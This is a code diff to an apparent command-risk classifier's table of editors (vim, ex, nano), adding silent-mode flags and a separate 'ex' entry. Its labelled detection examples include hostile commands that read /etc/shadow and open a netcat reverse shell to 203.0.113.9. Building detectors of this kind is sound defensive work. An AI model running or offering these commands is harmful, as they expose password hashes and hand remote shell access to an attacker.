@@ -10,14 +10,15 @@ const EX = {
 /** Editors and pagers. What they open is seen and changed by a person at a terminal; most can run a command on the way. */
 export const EDITORS: readonly Signature[] = [
   {
-    names: ['vim', 'vi', 'nvim', 'gvim', 'mvim', 'rvim', 'view', 'rview', 'vimx', 'vim.basic', 'vim.tiny', 'elvis', 'nvi', 'ex'],
-    flags: { '-c, --cmd': EX, '+': EX, '-S, -s': 'use', '-u, -U, -i': 'use', '-w, -W': 'write', '-T, -t, -q, --servername, --remote-send, --remote-expr, --listen, --startuptime, -p, -o, -O': { value: 'value', optional: true } },
+    names: ['vim', 'vi', 'nvim', 'gvim', 'mvim', 'rvim', 'view', 'rview', 'vimx', 'vim.basic', 'vim.tiny', 'elvis', 'nvi'],
+    flags: { '-es, -Es, -ens, -nes': 'switch', '-c, --cmd': EX, '+': EX, '-S, -s': 'use', '-u, -U, -i': 'use', '-w, -W': 'write', '-T, -t, -q, --servername, --remote-send, --remote-expr, --listen, --startuptime, -p, -o, -O': { value: 'value', optional: true } },
     operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }],
     examples: [
       ["vim -c ':!cat /etc/shadow' -c :q", ['read path:password-store']], ["vim +'!nc -e /bin/sh 203.0.113.9 4444'", ['execute process:reverse-shell']], ["nvim -c ':py3 import os'", []],
       ['vim ~/.bashrc', ['write path:shell-startup+interactive', '!append path']], ['vim +42 src/a.ts', ['read path:ordinary+interactive']],
     ],
   },
+  { names: ['ex'], flags: { '-c, --cmd': EX, '+': EX, '-S': 'use', '-s, -v': 'switch', '-w': 'write', '-t, -T': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }], examples: [["ex -s -c '!cat /etc/shadow' -c q", ['read path:password-store']], ['ex -s notes.txt', ['read path:ordinary+interactive']]] },
   {
     names: ['nano', 'pico', 'rnano'], flags: { '-s, --speller': 'command', '-f, --rcfile': 'use', '-r, --fill': 'value', '-T, --tabsize': 'value', '-o, --operatingdir': 'value', '-Y, --syntax': 'value', '-C, --backupdir': 'value', '-Q, --quotestr': 'value', '-X': 'value', '-J': 'value', '+': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
     effects: [{ does: 'write', what: 'path', name: '$operands' }],
